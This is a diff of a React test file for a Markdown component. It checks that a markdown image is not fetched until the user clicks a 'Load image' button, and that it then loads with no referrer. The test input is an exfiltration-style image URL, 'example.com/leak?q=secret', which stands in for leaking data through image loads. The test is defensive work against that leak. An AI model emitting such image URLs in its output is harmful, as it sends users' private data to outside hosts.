@@ -1,4 +1,4 @@
-import { render, screen } from "@testing-library/react";
+import { fireEvent, render, screen } from "@testing-library/react";
 import { describe, expect, it } from "vitest";
 import { Markdown } from "./Markdown";
 
@@ -41,12 +41,14 @@ describe("Markdown", () => {
     );
   });
 
-  it("never fetches an image", () => {
+  it("fetches an image when it is told to and not before", () => {
     const { container } = render(
       <Markdown text="![a plan](https://example.com/leak?q=secret)" streaming={false} />,
     );
     expect(container.querySelector("img")).toBeNull();
-    expect(screen.getByRole("link", { name: "a plan" })).toBeTruthy();
+    expect(screen.getByText("a plan").textContent).toBe("a plan on example.com");
+    fireEvent.click(screen.getByRole("button", { name: "Load image: a plan, from example.com" }));
+    expect(container.querySelector("img")?.getAttribute("referrerpolicy")).toBe("no-referrer");
   });
 
   it("resolves character references outside code only", () => {
